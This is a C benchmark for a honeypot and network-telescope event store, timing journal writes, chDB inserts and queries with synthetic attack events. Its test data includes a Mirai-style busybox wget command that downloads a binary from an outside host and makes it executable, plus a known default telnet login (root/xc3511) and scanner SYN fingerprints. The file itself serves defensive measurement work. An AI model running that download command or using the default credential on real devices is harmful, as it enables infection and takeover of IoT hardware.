/*
 * How many events a second the store takes, with the real schema.
 *
 *    store [BATCHES] [EVENTS A BATCH]
 *
 * Events of an attack's usual mixture (a session, a login with its password, three
 * commands, its end, a decision, a probe, an answer, an identification) go the whole way
 * from frames of the journal to tables in chDB: decoding, rows, inserts with their names,
 * syncs and merges; the journal is measured alone, too.  Then as many flows of a telescope
 * that counts ten million a day.  The last line is JSON.
 */
#include "base/clock.h"
#include "store/insertion.h"
#include <fcntl.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#define MIXTURE 10

static struct event event; /* large */
static struct id_maker ids = {1, 0};
static uint8_t frame_room[FRAME_MAX];

static double cpu_seconds(void)
{
	struct rusage r;
	getrusage(RUSAGE_SELF, &r);
	return (double)r.ru_utime.tv_sec + (double)r.ru_stime.tv_sec +
	       (double)(r.ru_utime.tv_usec + r.ru_stime.tv_usec) / 1e6;
}

static void begin(enum event_kind kind, uint64_t n)
{
	struct address src = address_v4(0x0b000000u + (uint32_t)(n / MIXTURE * 2654435761u >> 8));
	struct address dst = address_v4(0xc0000200u + (uint32_t)(n / MIXTURE % 148));
	event_begin(&event, kind);
	event.time_us = 1700000000000000u + n * 10;
	event.id = id_make(&ids, event.time_us);
	event_set_address(&event, FIELD_SRC, &src);
	event_set_number(&event, FIELD_SPORT, 1024 + n * 7919 % 60000);
	event_set_address(&event, FIELD_DST, &dst);
	event_set_number(&event, FIELD_DPORT, 23);
	event_set_text(&event, FIELD_PROTO, "tcp");
	event_set_text(&event, FIELD_SENSOR, "sensor-1");
	event_set_text(&event, FIELD_PROCESS, "passive");
	event_set_number(&event, FIELD_SEQUENCE, n);
	event_set_number(&event, FIELD_RECEIVED, event.time_us + 120);
	if (n % MIXTURE) {
		struct event_id cause = event.id;
		cause.b[15] ^= 1;
		event_set_id(&event, FIELD_SESSION, &cause);
		event_set_chain(&event, &cause, &cause, 1);
	}
}

static void command(const char *line)
{
	event_set_bytes(&event, FIELD_COMMAND_LINE, bytes_of_text(line));
	event_set_bool(&event, FIELD_COMMAND_FOUND, true);
}

static struct bytes make(uint64_t n)
{
	static const enum event_kind kinds[MIXTURE] = {
		EVENT_SESSION_OPENED, EVENT_LOGIN_TRIED, EVENT_COMMAND_SENT, EVENT_COMMAND_SENT,
		EVENT_COMMAND_SENT, EVENT_SESSION_CLOSED, EVENT_DECISION_MADE, EVENT_PROBE_SENT,
		EVENT_HOST_ANSWERED, EVENT_HOST_IDENTIFIED};
	enum event_kind kind = kinds[n % MIXTURE];
	begin(kind, n);
	event_set_text(&event, n % MIXTURE < 6 ? FIELD_SERVICE : FIELD_PROBE, "telnet");
	if (kind == EVENT_LOGIN_TRIED) {
		event_set_bytes(&event, FIELD_LOGIN_USER, BYTES("root"));
		event_set_bytes(&event, FIELD_LOGIN_SECRET, BYTES("xc3511"));
		event_set_bool(&event, FIELD_LOGIN_ACCEPTED, true);
	} else if (kind == EVENT_COMMAND_SENT) {
		command("/bin/busybox wget http://198.51.100.7/bins/mirai.arm7 -O - > .t; chmod 777 .t");
	} else if (kind == EVENT_SESSION_CLOSED) {
		event_set_number(&event, FIELD_DURATION, n * 31 % 9000000);
		event_set_number(&event, FIELD_BYTES_IN, n % 3000);
		event_set_number(&event, FIELD_BYTES_OUT, n % 9000);
	} else if (kind == EVENT_DECISION_MADE) {
		event_set_text(&event, FIELD_DECISION, "allowed");
		event_set_text(&event, FIELD_BASIS, "handshake");
		event_set_text(&event, FIELD_RULE, "login");
	} else if (kind == EVENT_HOST_ANSWERED) {
		event_set_text(&event, FIELD_STATE, "open");
		event_set_bytes(&event, FIELD_BANNER, BYTES("\r\nDVR login: "));
		event_set_number(&event, FIELD_LATENCY, n % 90000);
	} else if (kind == EVENT_HOST_IDENTIFIED) {
		event_set_text(&event, FIELD_DEVICE_CLASS, "DVR");
		event_set_text(&event, FIELD_DEVICE_VENDOR, "Example");
		event_set_text(&event, FIELD_DEVICE_PRODUCT, "DVR-16");
	}
	struct writer w = writer_of(frame_room, sizeof frame_room);
	frame_encode(&event, &w);
	return writer_bytes(&w);
}

static uint32_t mix(uint64_t n)
{
	n = (n ^ n >> 31) * 0x9e3779b97f4a7c15u;
	n = (n ^ n >> 29) * 0xbf58476d1ce4e5b9u;
	return (uint32_t)(n >> 32);
}

/* What SYNs look like, and who sends them so. */
static const struct syn {
	const char *tool, *p0f, *ja4t;
	uint8_t ttl;
} syns[] = {
	{"mirai", "4:64:0:0:65535,0:::0", "65535_00_00_00", 64},
	{"mirai", "4:64:0:1460:5840,0:mss::0", "5840_2_1460_00", 64},
	{"zmap", "4:64:0:1460:65535,8:mss,nop,ws,nop,nop,sok::0", "65535_2-1-3-1-1-4_1460_8", 64},
	{"masscan", "4:255:0:0:1024,0:::0", "1024_00_00_00", 255},
	{"nmap", "4:64:0:1460:1024,0:mss::0", "1024_2_1460_00", 64},
	{"", "4:128:0:1460:8192,8:mss,nop,ws,nop,nop,sok:df,id+:0", "8192_2-1-3-1-1-4_1460_8", 128},
	{"", "4:64:0:1460:mss*44,7:mss,sok,ts,nop,ws:df,id+:0", "64240_2-4-8-1-3_1460_7", 64},
	{"", "4:128:0:1440:65535,8:mss,nop,ws,nop,nop,sok:df,id+:0", "65535_2-1-3-1-1-4_1440_8", 128},
};
#define SYNS (sizeof syns / sizeof *syns)

/* About four records a source, near one another in time; a port of the fashionable half the time. */
static struct bytes make_flow(uint64_t n)
{
	static const uint16_t fashion[] = {23, 23, 2323, 22, 445, 80, 8080, 443, 3389, 5555, 8728, 6379};
	uint32_t r = mix(n), source = mix(n / 2000 * 500 + r % 500 + 77), port = r >> 8;
	const struct syn *syn = &syns[source % SYNS];
	bool udp = source % 100 >= 92, answers = source % 100 < 5, one = r % 3 == 0;
	struct address src = address_v4(source), dst = address_v4(0xc6336400u + (r >> 3) % 65536);
	uint64_t packets = one ? 1 : 2 + (r >> 16) % 40 * (r % 97 == 0 ? 50 : 1), hops = 8 + source % 18;
	event_begin(&event, EVENT_FLOW_COUNTED);
	event.time_us = 1700000000000000u + n * 8640 + r % 5000;
	event.id = id_make(&ids, event.time_us);
	event_set_text(&event, FIELD_SENSOR, "sensor-1");
	event_set_text(&event, FIELD_PROCESS, "telescope");
	event_set_number(&event, FIELD_SEQUENCE, n);
	event_set_number(&event, FIELD_RECEIVED, event.time_us + 624000000 + r % 1000000);
	event_set_address(&event, FIELD_SRC, &src);
	if (one)
		event_set_address(&event, FIELD_DST, &dst);
	event_set_number(&event, answers ? FIELD_SPORT : FIELD_DPORT,
			 port % 2 ? fashion[port / 2 % 12] : port % 65536);
	event_set_text(&event, FIELD_PROTO, udp ? "udp" : "tcp");
	event_set_number(&event, FIELD_FLOW_FIRST, event.time_us - (one ? 0 : mix(n + 5) % 300000000));
	event_set_number(&event, FIELD_FLOW_PACKETS, packets);
	event_set_number(&event, FIELD_FLOW_BYTES, packets * (udp ? 58 : 40 + source % 3 * 4));
	event_set_number(&event, FIELD_FLOW_DESTINATIONS, 1 + (packets - 1) * 9 / 10);
	event_set_bool(&event, FIELD_FLOW_ANSWER, answers);
	event_set_number(&event, FIELD_FLOW_TTL_MIN, syn->ttl - hops);
	event_set_number(&event, FIELD_FLOW_TTL_MAX, syn->ttl - hops + (r % 11 == 0));
	event_set_number(&event, FIELD_FLOW_HOPS, hops);
	event_set_text(&event, FIELD_FLOW_CLASS, answers ? "backscatter" : "scan");
	event_set_text(&event, FIELD_FLOW_END, "quiet");
	if (udp) {
		event_set_text(&event, FIELD_FLOW_ASKS, "dns-query");
		event_set_bytes(&event, FIELD_FLOW_PAYLOAD, BYTES("\x12\x34\1\0\0\1\0\0\0\0\0\0\7version\4bind\0\0\x10\0\3"));
	} else {
		event_set_number(&event, FIELD_FLOW_FLAGS, answers ? 0x12 : 2);
		event_set_text(&event, FIELD_FLOW_P0F, syn->p0f);
		event_set_text(&event, FIELD_FLOW_JA4T, syn->ja4t);
		if (*syn->tool)
			event_set_text(&event, FIELD_TOOL, syn->tool);
	}
	struct writer w = writer_of(frame_room, sizeof frame_room);
	frame_encode(&event, &w);
	return writer_bytes(&w);
}

static void die(const struct fault *fault)
{
	fprintf(stderr, "%s\n", fault->text);
	exit(1);
}

static void fill(struct journal *j, uint64_t events, struct bytes (*make_one)(uint64_t), double *seconds,
		 struct fault *fault)
{
	const uint32_t group = 1000;
	uint64_t spent_us = 0;
	for (uint64_t n = 0; n < events; n++) {
		struct bytes frame = make_one(n);
		uint64_t t = clock_mono_us();
		if (journal_add(j, frame) || ((n + 1) % group == 0 && journal_commit(j, 0, fault)))
			die(fault);
		spent_us += clock_mono_us() - t;
	}
	if (journal_commit(j, 0, fault))
		die(fault);
	*seconds = (double)spent_us / 1e6;
}

struct store_figures {
	double wall, cpu;
	uint64_t rows;
};

static void insert_all(struct journal *j, struct engine *e, struct store_figures *out, struct fault *fault)
{
	struct insertion insertion;
	struct batch b;
	struct buffer head = BUFFER(SEGMENT_HEAD_MAX), groups = BUFFER(2 * BATCH_BYTES_MAX);
	double cpu = cpu_seconds();
	uint64_t t = clock_mono_us();
	if (insertion_open(&insertion))
		exit(1);
	while (journal_batch(j, &b, fault) == 0) {
		buffer_consume(&head, buffer_len(&head));
		buffer_consume(&groups, buffer_len(&groups));
		if (journal_batch_read(j, &b, &head, &groups, fault) ||
		    insertion_run(&insertion, e, &b, buffer_bytes(&head), buffer_bytes(&groups), fault) ||
		    journal_batch_done(j, &b, fault))
			die(fault);
	}
	*out = (struct store_figures){(double)(clock_mono_us() - t) / 1e6, cpu_seconds() - cpu,
				      insertion.inserted[TABLE_EVENTS] + insertion.inserted[TABLE_FLOWS]};
	insertion_close(&insertion);
}

static int collect(void *arg, struct bytes part) { return buffer_append(arg, part.at, part.len); }

/* Milliseconds of the question at its third asking. */
static double ask_ms(struct engine_reader *r, const char *sql, struct fault *fault)
{
	double ms = 0;
	for (int i = 0; i < 3; i++) {
		struct buffer answer = BUFFER(8 << 20);
		uint64_t t = clock_mono_us();
		if (engine_ask(r, bytes_of_text(sql), ANSWER_LINES, false, collect, &answer, fault))
			die(fault);
		ms = (double)(clock_mono_us() - t) / 1e3;
		buffer_done(&answer);
	}
	return ms;
}

static double bytes_a_row(struct engine *e, enum table t, struct fault *fault)
{
	struct buffer answer = BUFFER(4096);
	char sql[256];
	uint64_t n = 0;
	snprintf(sql, sizeof sql, "SELECT toUInt64(sum(bytes_on_disk) * 10 / sum(rows)) FROM system.parts WHERE "
				  "database = 'kansoku' AND table = '%s' AND active", table_name(t));
	if (engine_run_text(e, sql, &answer, fault))
		die(fault);
	bytes_number(bytes_trim(buffer_bytes(&answer)), UINT64_MAX, &n);
	buffer_done(&answer);
	return (double)n / 10;
}

/* One mixture through the whole way; `json` gets its figures, without braces. */
static void measure(struct journal *j, struct engine *e, enum table t, uint64_t rows,
		    struct bytes (*make_one)(uint64_t), struct writer *json, struct fault *fault)
{
	struct store_figures figures;
	double journal_s;
	const char *name = table_name(t);
	fill(j, rows, make_one, &journal_s, fault);
	insert_all(j, e, &figures, fault);
	printf("%llu %s: journal %.0f/s with a sync every 1000; store %.0f/s wall, %.0f/s a CPU second\n",
	       (unsigned long long)rows, name, (double)rows / journal_s, (double)rows / figures.wall,
	       (double)rows / figures.cpu);
	write_fmt(json, "\"%s\":%llu,\"journal_%s_s\":%.0f,\"store_%s_s\":%.0f,\"store_%s_cpu_s\":%.0f,"
			"\"%s_bytes_a_row\":%.1f", name, (unsigned long long)figures.rows, name,
		  (double)rows / journal_s, name, (double)rows / figures.wall, name,
		  (double)rows / figures.cpu, name, bytes_a_row(e, t, fault));
}

static void ask_all(struct engine_reader *r, struct writer *json, struct fault *fault)
{
	static const struct {
		const char *name, *sql;
	} questions[] = {
		{"top20_ms", "SELECT ip(src) AS a, count() AS n FROM events GROUP BY src ORDER BY n DESC LIMIT 20"},
		{"one_source_ms", "SELECT count() FROM events WHERE src = addr('11.0.0.0')"},
		{"arrays_ms", "SELECT value[indexOf(field,'command.line')] AS l, count() AS n FROM events WHERE "
			      "kind = 'command.sent' GROUP BY l ORDER BY n DESC LIMIT 10"},
		{"flows_top20_ms", "SELECT ip(src) AS a, sum(flow_packets) AS n FROM flows GROUP BY src ORDER BY n "
				   "DESC LIMIT 20"},
		{"flows_one_source_ms", "SELECT count() FROM flows WHERE src = addr('1.2.3.4')"},
		{"flows_ports_ms", "SELECT proto, dport, uniqExact(src), sum(flow_packets) AS n FROM flows GROUP BY "
				   "proto, dport ORDER BY n DESC LIMIT 50"},
	};
	for (size_t i = 0; i < sizeof questions / sizeof *questions; i++)
		write_fmt(json, ",\"%s\":%.1f", questions[i].name, ask_ms(r, questions[i].sql, fault));
}

int main(int argc, char **argv)
{
	uint64_t batches = argc > 1 ? strtoull(argv[1], NULL, 10) : 100;
	uint32_t batch = argc > 2 ? (uint32_t)strtoul(argv[2], NULL, 10) : 10000;
	char place[64] = "/tmp/kansoku-bench-XXXXXX", tables[80], folder[80], text[2048];
	static struct chdb chdb;
	struct engine *engine;
	struct engine_reader *reader;
	struct journal *journal;
	struct journal_report report;
	struct fault fault = {0};
	struct writer json = writer_of(text, sizeof text);
	const struct engine_limits limits = {60000, (uint64_t)2 << 30, 64 << 20, 2};
	const struct journal_limits journal_limits = {
		.segment_bytes = 64 << 20, .segment_age_us = UINT64_MAX / 4, .batch_frames = batch};
	if (!mkdtemp(place) || event_start(&fault) || chdb_open(&chdb, NULL, &fault))
		die(&fault);
	snprintf(tables, sizeof tables, "%s/tables", place);
	snprintf(folder, sizeof folder, "%s/journal", place);
	mkdir(folder, 0700);
	if (journal_open(&journal, open(folder, O_RDONLY | O_DIRECTORY), &journal_limits, 0, &report, &fault) ||
	    engine_open(&engine, &chdb, tables, &limits, &fault) || engine_prepare(engine, &fault) ||
	    engine_reader_open(&reader, engine, &fault))
		die(&fault);
	measure(journal, engine, TABLE_EVENTS, batches * batch, make, &json, &fault);
	write_text(&json, ",");
	measure(journal, engine, TABLE_FLOWS, batches * batch, make_flow, &json, &fault);
	ask_all(reader, &json, &fault);
	printf("{\"batch\":%u,%.*s}\n", batch, (int)writer_used(&json), text);
	fflush(stdout);
	if (argc > 3) { /* kept for a look */
		fprintf(stderr, "%s\n", place);
		chdb_leave();
		return 0;
	}
	execl("/bin/rm", "rm", "-rf", place, (char *)NULL);
	return 1;
}
